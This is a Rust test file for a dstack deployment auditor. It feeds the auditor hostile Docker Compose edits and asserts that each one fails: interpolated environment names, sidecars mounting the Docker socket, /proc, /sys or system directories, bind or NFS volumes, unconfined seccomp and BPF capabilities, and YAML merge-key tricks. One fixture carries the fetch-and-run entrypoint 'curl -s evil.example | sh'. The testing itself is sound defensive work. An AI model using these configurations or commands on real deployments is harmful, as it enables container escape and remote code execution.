//! Check 3 attacked as a deployer would, past the rules of tests/workload_model.rs: names and
//! sources Compose interpolates, symbolic links Docker follows, volumes that are host paths or
//! shared under a second name, and sidecars reaching the launcher through the CVM's kernel
//! interfaces. Each attack is one edit of a deployment that passes, so each assertion fails
//! without its rule.

use crate::common::workload::git_launcher::*;
use crate::common::workload::*;
use dstack_audit::reference::Reference;
use dstack_audit::report::{CheckResult, Status};
use serde_json::json;

/// The base deployment plus a pinned sidecar `cache` (with `body`), and `top` at the top level.
fn with_sidecar(service: &str, body: &str, top: &str) -> String {
    compose(service, top)
        .replace("configs:\n  pin:", &format!("  cache:\n    image: {SIDECAR}\n{body}configs:\n  pin:"))
}

fn listed() -> Reference {
    reference(|r| r["images"] = json!([SIDECAR]))
}

fn accepting_persistent_checkout() -> Reference {
    reference(|r| {
        r["images"] = json!([SIDECAR]);
        r["workload"]["accept"] = json!(["persistent-checkout"]);
    })
}

fn run(yaml: &str, r: &Reference) -> CheckResult {
    judge_with(yaml, app("docker-compose", &[]), r)
}

#[test]
fn the_base_deployment_with_a_sidecar_passes() {
    let r = run(&with_sidecar("", "", ""), &listed());
    assert_eq!(r.status, Status::Pass, "{r:#?}");
    // Ordinary named volumes and a sidecar's ordinary host path stay a pass.
    let y = with_sidecar("      - data:/data\n", "    volumes:\n      - ./cache:/cache\n", "volumes:\n  data:\n");
    assert_eq!(run(&y, &listed()).status, Status::Pass);
}

#[test]
fn an_interpolated_environment_name_fails() {
    // Compose interpolates the whole list item: with X unset this sets BASH_ENV.
    for item in ["${X:-BASH_ENV}=/tmp/x", "GIT_${X}=y", "$X=1"] {
        let y = compose(&format!("    environment:\n      - \"{item}\"\n"), "");
        fails(&run(&y, &listed()), "workload-key-not-modelled", &["services.launcher.environment", "interpolated"]);
    }
    // An interpolated value under a literal name is runtime configuration.
    let y = compose("    environment:\n      - \"API_URL=${API_URL:-x}\"\n", "");
    assert_eq!(run(&y, &listed()).status, Status::Pass);
}

#[test]
fn variables_openssl_reads_fail_in_the_launcher() {
    // ssh (for git@ URLs) loads OpenSSL's configuration, which can load a module from a data mount.
    for name in ["OPENSSL_CONF", "OPENSSL_MODULES", "OPENSSL_ENGINES"] {
        let y = compose(&format!("      - ./data:/data\n    environment:\n      {name}: /data/x\n"), "");
        fails(&run(&y, &listed()), "workload-override", &[&format!("environment.{name}")]);
    }
}

#[test]
fn paths_through_var_run_are_the_paths_under_run() {
    let at = |w: &str| "WORK_DIR=/var/lib/git-launcher/app".to_string().replace("/var/lib/git-launcher/app", w);
    // The launcher image links /var/run to /run: a host path at /run is over the checkout.
    let y = compose("      - ./evil:/run\n", "").replace(&at("/var/lib/git-launcher/app"), &at("/var/run/app"));
    fails(&run(&y, &listed()), "workload-override", &["host path", "/run"]);
    let y = compose("      - ./evil:/var/run\n", "").replace(&at("/var/lib/git-launcher/app"), &at("/run/app"));
    fails(&run(&y, &listed()), "workload-override", &["host path"]);
    let y = compose("      - ./evil:/run/lock\n", "").replace(&at("/var/lib/git-launcher/app"), &at("/var/lock/app"));
    fails(&run(&y, &listed()), "workload-override", &["host path"]);
    // A volume there keeps the checkout: not a pass.
    let y =
        compose("      - w:/run\n", "volumes:\n  w:\n").replace(&at("/var/lib/git-launcher/app"), &at("/var/run/app"));
    let r = run(&y, &listed());
    assert_eq!(r.status, Status::NotChecked, "{r:#?}");
    assert!(r.findings.iter().any(|f| f.code == "workload-persistent-checkout"));
    // The config read through the link: a host path at /run covers /var/run/c.conf.
    let y = compose("", "")
        .replace("    volumes:\n", "    command: [/var/run/c.conf]\n    volumes:\n      - ./evil:/run\n")
        .replace("target: /etc/git-launcher/config.conf", "target: /var/run/c.conf");
    fails(&run(&y, &listed()), "launcher-config-not-attested", &["/run"]);
}

#[test]
fn volumes_that_are_host_paths_shares_or_aliases_are_not_modelled() {
    let checkout = "      - w:/var/lib/git-launcher\n";
    for (top, words) in [
        // `o: bind` makes the named volume a host path over the checkout.
        (
            "volumes:\n  w:\n    driver_opts:\n      type: none\n      o: bind\n      device: /dstack/evil\n",
            "volumes.w.driver_opts",
        ),
        // A network share written by whoever runs the server.
        (
            "volumes:\n  w:\n    driver_opts:\n      type: nfs\n      o: addr=203.0.113.1\n      device: ':/x'\n",
            "volumes.w.driver_opts",
        ),
        ("volumes:\n  w:\n    driver: example/plugin\n", "volumes.w.driver"),
        ("volumes:\n  w:\n    name: ${VOLUME}\n", "volumes.w.name"),
    ] {
        let r = run(&compose(checkout, top), &accepting_persistent_checkout());
        fails(&r, "workload-key-not-modelled", &[words]);
    }
    // Two keys for one volume: the sidecar writes the launcher's checkout under another key.
    let y = with_sidecar(
        checkout,
        "    volumes:\n      - b:/x\n",
        "volumes:\n  w:\n    name: shared\n  b:\n    name: shared\n",
    );
    fails(&run(&y, &accepting_persistent_checkout()), "workload-key-not-modelled", &["volumes.b.name", "volumes.w"]);
    // A sidecar's volume bound to the engine's socket directory.
    let y = with_sidecar(
        "",
        "    volumes:\n      - eng:/e\n",
        "volumes:\n  eng:\n    driver_opts:\n      type: none\n      o: bind\n      device: /var/run\n",
    );
    fails(&run(&y, &listed()), "workload-key-not-modelled", &["volumes.eng.driver_opts"]);
    // Without these, the accepted persistent checkout passes with its warning.
    let r = run(&compose(checkout, "volumes:\n  w:\n    name: app-checkout\n"), &accepting_persistent_checkout());
    assert_eq!(r.status, Status::Pass, "{r:#?}");
}

#[test]
fn sidecars_reaching_the_engine_or_the_kernel_fail() {
    for (body, words) in [
        // The source is interpolated: with S unset it is the Docker socket.
        ("    volumes:\n      - ${S:-/var/run/docker.sock}:/var/run/docker.sock\n", "interpolated source"),
        (
            "    volumes:\n      - type: bind\n        source: ${S:-/var/run/docker.sock}\n        target: /s\n",
            "interpolated source",
        ),
        // The type is interpolated (bind by default): still the socket.
        (
            "    volumes:\n      - type: ${T:-bind}\n        source: /var/run/docker.sock\n        target: /s\n",
            "container engine",
        ),
        // /proc/PID/root of the launcher, core_pattern; /sys's uevent_helper.
        ("    volumes:\n      - /proc:/hp\n", "kernel"),
        ("    volumes:\n      - /sys:/hs\n", "kernel"),
        // Docker's exec root, containerd by the /var/run link, inside the engine's state.
        ("    volumes:\n      - /run/docker:/rd\n", "container engine"),
        ("    volumes:\n      - /var/run/containerd:/c\n", "container engine"),
        ("    volumes:\n      - /var/lib/docker/volumes:/v\n", "container engine"),
        // Relative host paths are under the project directory /dstack; `~` is root's home.
        ("    volumes:\n      - ./../../var/run/docker.sock:/x\n", "container engine"),
        ("    volumes:\n      - ../var/lib/docker:/x\n", "container engine"),
        ("    volumes:\n      - ~/../proc:/x\n", "kernel"),
        ("    volumes:\n      - .:/x\n", "container engine"),
    ] {
        fails(&run(&with_sidecar("", body, ""), &listed()), "workload-sidecar-controls-launcher", &[words]);
    }
}

#[test]
fn zero_replicas_in_any_integer_spelling_start_nothing() {
    // YAML integers as Compose reads them: each of these is 0, so the launcher never starts.
    for (key, zero) in [("scale", "0x0"), ("scale", "00"), ("scale", "-0"), ("scale", "0_0"), ("scale", "'0'")] {
        let y = compose(&format!("    {key}: {zero}\n"), "");
        fails(&run(&y, &listed()), "launcher-not-started", &["starts no container"]);
    }
    let y = compose("    deploy:\n      replicas: 0o0\n", "");
    fails(&run(&y, &listed()), "launcher-not-started", &["deploy.replicas"]);
    assert_eq!(run(&compose("    scale: 0x1\n", ""), &listed()).status, Status::Pass);
}

#[test]
fn sidecars_with_device_rules_unconfined_proc_or_tracing_capabilities_fail() {
    for (body, words) in [
        // With CAP_MKNOD (a default) it creates the node of the decrypted data disk.
        ("    device_cgroup_rules: ['b *:* rwm']\n", "device_cgroup_rules"),
        // /proc/sys writable: kernel.core_pattern runs a program as root in the CVM.
        ("    security_opt: [systempaths=unconfined]\n", "security_opt"),
        ("    security_opt: [\"${OPT:-seccomp=unconfined}\"]\n", "security_opt"),
        // eBPF tracing programs read and write other processes' memory.
        ("    cap_add: [BPF, PERFMON]\n", "cap_add"),
    ] {
        fails(&run(&with_sidecar("", body, ""), &listed()), "workload-sidecar-controls-launcher", &[words]);
    }
    let hardened = with_sidecar("", "    security_opt: [no-new-privileges:true]\n", "");
    assert_eq!(run(&hardened, &listed()).status, Status::Pass);
}

#[test]
fn merge_keys_whose_outcome_depends_on_the_compose_version_fail() {
    let unreadable = |y: &str, r: &Reference| {
        let res = run(y, r);
        assert_eq!(res.status, Status::Fail, "{y}\n{res:#?}");
        assert!(res.findings.iter().any(|f| f.code == "compose-unreadable"), "{y}\n{res:#?}");
    };
    // `!reset` is applied before merges (compose-go loader/reset.go): the merged entrypoint runs.
    let evil = "x-evil: &evil\n  entrypoint: [sh, -c, 'curl -s evil.example | sh']\n";
    let y = format!("{evil}{}", compose("    <<: *evil\n    entrypoint: !reset null\n", ""));
    unreadable(&y, &listed());
    // With goccy/go-yaml a merge after `image:` replaces it: the "sidecar" runs the launcher
    // image with its own config, while yaml.v3 reads the sidecar image.
    let img = format!("x-img: &img\n  image: {IMAGE}\n");
    let y = format!("{img}{}", with_sidecar("", "    <<: *img\n    command: [/srv/other.conf]\n", ""));
    unreadable(&y, &listed());
    // A merge first and keys after it: every version agrees, and the deployment passes.
    let base = "x-base: &base\n  restart: always\n";
    let y = format!("{base}{}", compose("    <<: *base\n    restart: unless-stopped\n", ""));
    assert_eq!(run(&y, &listed()).status, Status::Pass);
}

/// A sidecar with a writable mount of the CVM's own system directories can change what the CVM
/// runs as root (`/etc/ld.so.preload`, units, libraries): fails (decision 82). Read-only, or a
/// data path, it is runtime data.
#[test]
fn sidecars_writing_the_cvms_system_directories_fail() {
    for body in [
        "    volumes:\n      - /etc:/host-etc\n",
        "    volumes:\n      - /usr/lib:/l:rw\n",
        "    volumes:\n      - type: bind\n        source: /root\n        target: /r\n",
        "    volumes:\n      - ~/.ssh:/k\n",
        "    volumes:\n      - ../etc/systemd:/u\n",
    ] {
        fails(
            &run(&with_sidecar("", body, ""), &listed()),
            "workload-sidecar-controls-launcher",
            &["system directory"],
        );
    }
    for body in ["    volumes:\n      - /etc:/host-etc:ro\n", "    volumes:\n      - ./cache:/cache\n"] {
        let r = run(&with_sidecar("", body, ""), &listed());
        assert_eq!(r.status, Status::Pass, "{body}: {r:#?}");
    }
}
